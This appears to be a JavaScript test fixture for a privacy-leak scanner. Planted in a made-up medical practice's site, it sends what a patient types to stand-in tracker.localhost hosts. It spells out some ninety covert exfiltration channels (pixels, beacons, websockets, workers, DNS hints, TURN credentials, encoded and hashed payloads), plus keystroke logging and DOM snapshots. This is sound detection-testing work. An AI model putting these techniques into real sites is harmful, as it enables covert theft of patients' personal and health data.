// Every way in which a script of a made-up practice's site tells somebody else
// what a patient typed. Each sends to a host of its own, so that what was really
// received can be compared with what the scan says.
const here = new URL(location.href);
const to = (name) => `http://${name}.tracker.localhost:${document.currentScript?.dataset.port ?? globalThis.trackerPort}`;
globalThis.trackerPort = document.currentScript.dataset.port;
globalThis.planted = document.currentScript.dataset.ways.split(' ').filter(Boolean);
const field = (name) => document.querySelector(`[name=${name}]`);
const enc = encodeURIComponent;
const get = (name, query) => { new Image().src = `${to(name)}/p?${query}`; };
const post = (name, body, type = 'text/plain') => fetch(`${to(name)}/c`, { method: 'POST', body, mode: 'no-cors', headers: { 'Content-Type': type } });
const hex = (b) => [...new Uint8Array(b)].map((x) => x.toString(16).padStart(2, '0')).join('');
const sha = async (alg, s) => hex(await crypto.subtle.digest(alg, new TextEncoder().encode(s)));
const md5 = (s) => { // RFC 1321
	const k = Array.from({ length: 64 }, (_, i) => Math.floor(Math.abs(Math.sin(i + 1)) * 2 ** 32) >>> 0), r = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
	const b = [...new TextEncoder().encode(s)], n = b.length * 8; b.push(128);
	while (b.length % 64 !== 56) b.push(0);
	for (let i = 0; i < 8; i++) b.push(i < 4 ? (n >>> (8 * i)) & 255 : 0);
	let [a0, b0, c0, d0] = [0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476];
	for (let o = 0; o < b.length; o += 64) {
		const m = Array.from({ length: 16 }, (_, i) => b[o + i * 4] | b[o + i * 4 + 1] << 8 | b[o + i * 4 + 2] << 16 | b[o + i * 4 + 3] << 24);
		let [A, B, C, D] = [a0, b0, c0, d0];
		for (let i = 0; i < 64; i++) {
			const q = i >> 4;
			const [f, g] = [[(B & C) | (~B & D), i], [(D & B) | (~D & C), (5 * i + 1) % 16], [B ^ C ^ D, (3 * i + 5) % 16], [C ^ (B | ~D), (7 * i) % 16]][q];
			const x = (A + f + k[i] + m[g]) | 0, s = r[q * 4 + i % 4];
			[A, D, C, B] = [D, C, B, (B + (x << s | x >>> (32 - s))) | 0];
		}
		a0 = (a0 + A) | 0; b0 = (b0 + B) | 0; c0 = (c0 + C) | 0; d0 = (d0 + D) | 0;
	}
	return [a0, b0, c0, d0].map((v) => [0, 8, 16, 24].map((s) => ((v >>> s) & 255).toString(16).padStart(2, '0')).join('')).join('');
};
const pack = async (kind, text) => new Uint8Array(await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream(kind))).arrayBuffer());
const frame = (src) => { const f = document.createElement('iframe'); f.width = f.height = 1; f.src = src; document.body.append(f); return f; };
const tag = (name, attrs) => { const e = document.createElement(name); for (const [k, v] of Object.entries(attrs)) e.setAttribute(k, v); document.head.append(e); return e; };
const worker = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));

// Once, when the e-mail address has been typed and left.
const changed = {
	'plain': (v) => get('plain', `e=${v.replace('@', '%40')}`),
	'url-encoded': (v) => get('url-encoded', `e=${[...v].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')}`),
	'twice-encoded': (v) => get('twice-encoded', `e=${enc(enc(v))}`),
	'upper': (v) => get('upper', `e=${enc(v.toUpperCase())}`),
	'lower': (v) => get('lower', `e=${enc(v.toLowerCase())}`),
	'base64': (v) => get('base64', `e=${enc(btoa(v))}`),
	'base64-one': (v) => get('base64-one', `e=${enc(btoa('x' + v + 'yz'))}`),
	'base64-two': (v) => get('base64-two', `e=${enc(btoa('xy' + v + 'z'))}`),
	'base64-url': (v) => get('base64-url', `e=${btoa('{"m":"~~~' + v + '???"}').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')}`),
	'base64-twice': (v) => get('base64-twice', `e=${enc(btoa(btoa(v)))}`),
	'hex': (v) => get('hex', `e=${hex(new TextEncoder().encode(v))}`),
	'codes': (v) => get('codes', `e=${[...v].map((c) => c.charCodeAt(0)).join(',')}`),
	'reversed': (v) => get('reversed', `e=${enc([...v].reverse().join(''))}`),
	'rot13': (v) => get('rot13', `e=${enc(v.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26)))}`),
	'md5': (v) => get('md5', `e=${md5(v)}`),
	'md5-lower': (v) => get('md5-lower', `e=${md5(v.trim().toLowerCase())}`),
	'sha1': async (v) => get('sha1', `e=${await sha('SHA-1', v)}`),
	'sha256': async (v) => get('sha256', `e=${await sha('SHA-256', v.toLowerCase())}`),
	'sha256-base64': async (v) => get('sha256-base64', `e=${enc(btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(v))))))}`),
	'sha512': async (v) => get('sha512', `e=${await sha('SHA-512', v)}`),
	'md5-sha256': async (v) => get('md5-sha256', `e=${md5(await sha('SHA-256', v.toLowerCase()))}`),
	'sha256-md5': async (v) => get('sha256-md5', `e=${await sha('SHA-256', md5(v))}`),
	'sha256-twice': async (v) => get('sha256-twice', `e=${await sha('SHA-256', await sha('SHA-256', v))}`),
	'json': (v) => post('json', JSON.stringify({ event: 'x', user: { mail: v } })),
	'json-escaped': (v) => post('json-escaped', `{"m":"${[...v].map((c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('')}"}`),
	'form-body': (v) => post('form-body', new URLSearchParams({ a: '1', m: v }).toString(), 'application/x-www-form-urlencoded'),
	'multipart': (v) => { const f = new FormData(); f.append('m', v); fetch(`${to('multipart')}/c`, { method: 'POST', mode: 'no-cors', body: f }); },
	'xhr': (v) => { const x = new XMLHttpRequest(); x.open('POST', `${to('xhr')}/c`); x.send(`mail=${v}`); },
	'header': (v) => fetch(`${to('header')}/c`, { headers: { 'X-User': v } }),
	'beacon': (v) => navigator.sendBeacon(`${to('beacon')}/c`, `m=${v}`),
	'beacon-base64': (v) => navigator.sendBeacon(`${to('beacon-base64')}/c`, btoa(JSON.stringify({ m: v }))),
	'keepalive': (v) => fetch(`${to('keepalive')}/c`, { method: 'POST', mode: 'no-cors', keepalive: true, body: v }),
	'gzip': async (v) => post('gzip', await pack('gzip', JSON.stringify({ m: v })), 'application/octet-stream'),
	'deflate': async (v) => post('deflate', await pack('deflate', JSON.stringify({ m: v })), 'application/octet-stream'),
	'deflate-raw': async (v) => post('deflate-raw', await pack('deflate-raw', JSON.stringify({ m: v, again: 'and again and again' })), 'application/octet-stream'),
	'gzip-base64': async (v) => get('gzip-base64', `d=${enc(btoa(String.fromCharCode(...await pack('gzip', v))))}`),
	'utf16': (v) => { const b = new Uint16Array([...v].map((c) => c.charCodeAt(0))); post('utf16', b, 'application/octet-stream'); },
	'path': (v) => { new Image().src = `${to('path')}/u/${enc(v)}/x.gif`; },
	'host-name': (v) => { new Image().src = `http://${hex(new TextEncoder().encode(v)).slice(0, 60)}.host-name.tracker.localhost:${trackerPort}/x.gif`; },
	'iframe': (v) => frame(`${to('iframe')}/f?m=${enc(v)}`),
	'frame-form': (v) => { const f = frame('about:blank'); f.name = 'sink'; f.contentWindow.name = 'sink'; const s = document.createElement('form'); s.method = 'post'; s.action = `${to('frame-form')}/c`; s.target = 'sink'; const i = document.createElement('input'); i.type = 'hidden'; i.name = 'm'; i.value = v; s.append(i); document.body.append(s); s.submit(); },
	'script': (v) => tag('script', { src: `${to('script')}/x.js?m=${enc(v)}` }),
	'import': (v) => import(`${to('import')}/x.js?m=${enc(v)}`),
	'stylesheet': (v) => tag('link', { rel: 'stylesheet', href: `${to('stylesheet')}/x.css?m=${enc(v)}` }),
	'prefetch': (v) => tag('link', { rel: 'prefetch', href: `${to('prefetch')}/x?m=${enc(v)}` }),
	'background': (v) => { document.body.style.backgroundImage = `url("${to('background')}/x.png?m=${enc(v)}")`; },
	'font': (v) => { const f = new FontFace('x', `url("${to('font')}/x.woff2?m=${enc(v)}")`); f.load().catch(() => {}); },
	'video': (v) => { const e = document.createElement('video'); e.preload = 'auto'; e.src = `${to('video')}/x.mp4?m=${enc(v)}`; document.body.append(e); },
	'object': (v) => { const e = document.createElement('object'); e.data = `${to('object')}/x?m=${enc(v)}`; document.body.append(e); },
	'embed': (v) => { const e = document.createElement('embed'); e.src = `${to('embed')}/x?m=${enc(v)}`; document.body.append(e); },
	'svg': (v) => { document.body.insertAdjacentHTML('beforeend', `<svg><image href="${to('svg')}/x.png?m=${enc(v)}" width="1" height="1"/></svg>`); },
	'srcset': (v) => { document.body.insertAdjacentHTML('beforeend', `<img srcset="${to('srcset')}/x.png?m=${enc(v)} 1x">`); },
	'event-source': (v) => { const s = new EventSource(`${to('event-source')}/x?m=${enc(v)}`); s.onerror = () => s.close(); },
	'socket': (v) => { const s = new WebSocket(`${to('socket').replace('http', 'ws')}/ws`); s.onopen = () => s.send(JSON.stringify({ m: v })); },
	'socket-binary': (v) => { const s = new WebSocket(`${to('socket-binary').replace('http', 'ws')}/ws`); s.onopen = async () => s.send(await pack('gzip', v)); },
	'socket-address': (v) => { new WebSocket(`${to('socket-address').replace('http', 'ws')}/ws?m=${enc(v)}`); },
	'worker': (v) => new Worker(worker(`fetch(${JSON.stringify(`${to('worker')}/c`)},{method:'POST',mode:'no-cors',body:${JSON.stringify(v)}})`)),
	'shared-worker': (v) => new SharedWorker(worker(`fetch(${JSON.stringify(`${to('shared-worker')}/c?m=${enc(v)}`)},{mode:'no-cors'})`)),
	'service-worker': async (v) => { await navigator.serviceWorker.register('/sw.js'); const r = await navigator.serviceWorker.ready; r.active.postMessage(`${to('service-worker')}/c?m=${enc(v)}`); },
	'ping': (v) => { const a = document.createElement('a'); a.href = '#there'; a.ping = `${to('ping')}/c?m=${enc(v)}`; document.body.append(a); a.click(); },
	'referer': (v) => { history.replaceState(null, '', `?m=${enc(v)}`); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = `${to('referer')}/x.gif`; },
	'title': (v) => { document.title = `Thank you, ${v}`; get('title', `dt=${enc(document.title)}`); },
	'split': (v) => { get('split', `a=${enc(v.slice(0, 8))}`); setTimeout(() => get('split', `b=${enc(v.slice(8))}`), 50); },
	'pieces': (v) => get('pieces', `q=1&a=${enc(v.slice(0, 6))}&b=${enc(v.slice(6, 14))}&c=${enc(v.slice(14))}`),
	'split-back': (v) => { get('split-back', `c=${enc(v.slice(14))}`); setTimeout(() => get('split-back', `b=${enc(v.slice(5, 14))}`), 40); setTimeout(() => get('split-back', `a=${enc(v.slice(0, 5))}`), 80); },
	'later': (v) => setTimeout(() => get('later', `m=${enc(v)}`), 1000),
	'redirect': (v) => { new Image().src = `/go?to=${enc(`${to('redirect')}/x?m=${v}`)}`; },
	'window': (v) => { const w = window.open(`${to('window')}/x?m=${enc(v)}`, '_blank'); setTimeout(() => w?.close(), 2000); },
	'sync': (v) => { const x = new XMLHttpRequest(); x.open('GET', `${to('sync')}/c?m=${enc(v)}`, false); try { x.send(); } catch { /* not answered */ } },
	'pixel': async (v) => get('pixel', `id=1234567890&ev=Lead&dl=${enc(location.href)}&ud[em]=${await sha('SHA-256', v.toLowerCase())}`),
	'ga4': (v) => navigator.sendBeacon(`${to('ga4')}/g/collect?v=2&tid=G-ABCDEF1&en=form_start`, `en=x&ep.mail=${enc(v)}`),
	'dom': (v) => { field('email').setAttribute('value', v); post('dom', JSON.stringify({ type: 'snapshot', html: document.body.innerHTML })); },
	'next-page': (v) => localStorage.setItem('left', v),
	'method': (v) => fetch(`${to('method')}/c`, { method: `X${hex(new TextEncoder().encode(v)).toUpperCase()}` }).catch(() => {}),
	'protocol': (v) => { new WebSocket(`${to('protocol').replace('http', 'ws')}/ws`, [hex(new TextEncoder().encode(v))]); },
	'accept': (v) => fetch(`${to('accept')}/c`, { mode: 'no-cors', headers: { 'Accept-Language': btoa(v).replaceAll('=', '') } }),
	'csp-report': (v) => { history.replaceState(null, '', `?m=${enc(v)}`); const e = document.createElement('object'); e.data = 'http://other.example.invalid/x'; document.body.append(e); },
	'fetch-later': (v) => { const u = `${to('fetch-later')}/c?m=${enc(v)}`; if (globalThis.fetchLater) { try { fetchLater(u); return; } catch { /* not on this address */ } } addEventListener('pagehide', () => navigator.sendBeacon(u)); },
	'after-five': (v) => setTimeout(() => get('after-five', `m=${enc(v)}`), 5000),
	'interval': (v) => { const t = setInterval(() => { clearInterval(t); get('interval', `m=${enc(v)}`); }, 4000); },
	'with-click': (v) => { if (here.searchParams.has('fbclid')) get('with-click', `m=${enc(v)}`); },
	'truncated': async (v) => get('truncated', `e=${(await sha('SHA-256', v.toLowerCase())).slice(0, 20)}`),
	'json-deep': (v) => post('json-deep', JSON.stringify({ a: JSON.stringify({ b: encodeURIComponent(JSON.stringify({ c: btoa(v) })) }) })),
	'form-get': (v) => { const f = frame('about:blank'); f.contentWindow.name = 'sunk'; const s = document.createElement('form'); s.action = `${to('form-get')}/c`; s.target = 'sunk'; const i = document.createElement('input'); i.type = 'hidden'; i.name = 'm'; i.value = v; s.append(i); document.body.append(s); s.submit(); },
	'xor': (v) => get('xor', `d=${enc(btoa(String.fromCharCode(...[...v].map((c, i) => c.charCodeAt(0) ^ (90 + i)))))}`),
	'hint': (v) => tag('link', { rel: 'dns-prefetch', href: `//${hex(new TextEncoder().encode(v)).slice(0, 60)}.hint.tracker.localhost/` }),
	'call': (v) => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:call.tracker.localhost:3478', username: v, credential: 'x' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); },
	'relay': (v) => fetch('/collect', { method: 'POST', body: JSON.stringify({ event: 'Lead', mail: v }) }),
};

// Things other than the e-mail address.
const other = {
	'words': () => field('reason').addEventListener('change', (e) => get('words', `t=${enc(e.target.value)}`)),
	'phone-digits': () => field('phone').addEventListener('change', async (e) => get('phone-digits', `ph=${await sha('SHA-256', '1' + e.target.value.replace(/\D/g, ''))}`)),
	'name-parts': () => field('name').addEventListener('change', async (e) => get('name-parts', `fn=${await sha('SHA-256', e.target.value.split(' ')[0].toLowerCase())}`)),
	'birth': () => field('born').addEventListener('change', async (e) => get('birth', `db=${await sha('SHA-256', e.target.value.replaceAll('-', ''))}`)),
	'choice': () => field('clinician').addEventListener('change', (e) => get('choice', `who=${enc(e.target.selectedOptions[0].text)}`)),
	'radio': () => document.querySelectorAll('[name=kind]').forEach((r) => r.addEventListener('change', (e) => get('radio', `k=${enc(e.target.value)}`))),
	'appointment': () => document.querySelector('.slot').addEventListener('click', (e) => get('appointment', `slot=${enc(e.target.textContent)}`)),
	'shadow': () => document.querySelector('#shade').inner.addEventListener('change', (e) => get('shadow', `v=${enc(e.target.value)}`)),
	'step-two': () => document.querySelector('#second').addEventListener('input', (e) => { if (e.target.value.length > 8) get('step-two', `v=${enc(e.target.value)}`); }),
	'editable': () => document.querySelector('#free').addEventListener('blur', (e) => get('editable', `v=${enc(e.target.textContent)}`)),
	'keys': () => { let n = 0; field('email').addEventListener('keydown', (e) => get('keys', `k=${enc(e.key)}&n=${n++}`)); },
	'key-codes': () => field('email').addEventListener('keypress', (e) => post('key-codes', JSON.stringify({ c: e.keyCode || e.charCode }))),
	'key-batch': () => { const all = []; field('email').addEventListener('keydown', (e) => all.push({ t: all.length, key: e.key })); field('email').addEventListener('blur', () => post('key-batch', JSON.stringify({ batch: all }))); },
	'growing': () => field('email').addEventListener('input', (e) => get('growing', `v=${enc(e.target.value)}`)),
	'key-socket': () => { const s = new WebSocket(`${to('key-socket').replace('http', 'ws')}/ws`); field('email').addEventListener('keydown', (e) => s.readyState === 1 && s.send(e.key)); },
	'pagehide': () => addEventListener('pagehide', () => navigator.sendBeacon(`${to('pagehide')}/c`, field('email').value)),
	'hidden': () => document.addEventListener('visibilitychange', () => navigator.sendBeacon(`${to('hidden')}/c`, JSON.stringify({ m: field('email').value }))),
	'before-unload': () => addEventListener('beforeunload', () => fetch(`${to('before-unload')}/c`, { method: 'POST', keepalive: true, mode: 'no-cors', body: field('email').value })),
	'message': () => { const f = frame(`${to('message')}/listen`); field('email').addEventListener('change', (e) => f.contentWindow.postMessage(e.target.value, '*')); },
	'submit': () => field('email').form.addEventListener('submit', (e) => { e.preventDefault(); get('submit', `m=${enc(field('email').value)}`); }),
	'submit-post': () => field('email').form.addEventListener('submit', () => fetch(`${to('submit-post')}/c`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ m: field('email').value }) }).catch(() => {})),
	'submit-socket': () => field('email').form.addEventListener('submit', () => { const s = new WebSocket(`${to('submit-socket').replace('http', 'ws')}/ws`); s.onopen = () => s.send(field('email').value); }),
	'send-button': () => document.querySelector('#ask').addEventListener('click', () => get('send-button', `t=${enc(field('phone').value)}`)),
	'handed': () => { const f = frame(`${to('handed')}/silent`); field('email').addEventListener('change', (e) => f.contentWindow.postMessage({ mail: e.target.value }, '*')); },
	'card': () => document.querySelector('.card').addEventListener('click', (e) => get('card', `who=${enc(e.target.closest('li').querySelector('h3').textContent)}`)),
	'option': () => document.querySelectorAll('[role=option]').forEach((o) => o.addEventListener('click', () => get('option', `plan=${enc(o.textContent)}`))),
	'short-choice': () => field('clinician').addEventListener('change', (e) => get('short-choice', `clinician=${enc(e.target.value)}`)),
	'word': () => get('word', 'ev=Lead&cd[topic]=depression'),
	'dialog': () => field('late').addEventListener('change', (e) => get('dialog', `v=${enc(e.target.value)}`)),
	'inner-frame': () => {},
	'their-frame': () => {},
	'address': () => get('address', `dl=${enc(location.href)}&dt=${enc(document.title)}`),
	'carried': () => { const v = localStorage.getItem('left'); if (v) get('carried', `v=${enc(v)}`); },
	'click-id': () => { const id = here.searchParams.get('gclid'); if (id) get('click-id', `gclid=${enc(id)}`); },
};

const start = () => {
	const mail = field('email');
	mail?.addEventListener('change', () => { for (const name of planted) changed[name]?.(mail.value); });
	for (const name of planted) other[name]?.();
};
if (document.readyState === 'loading') addEventListener('DOMContentLoaded', start); else start();
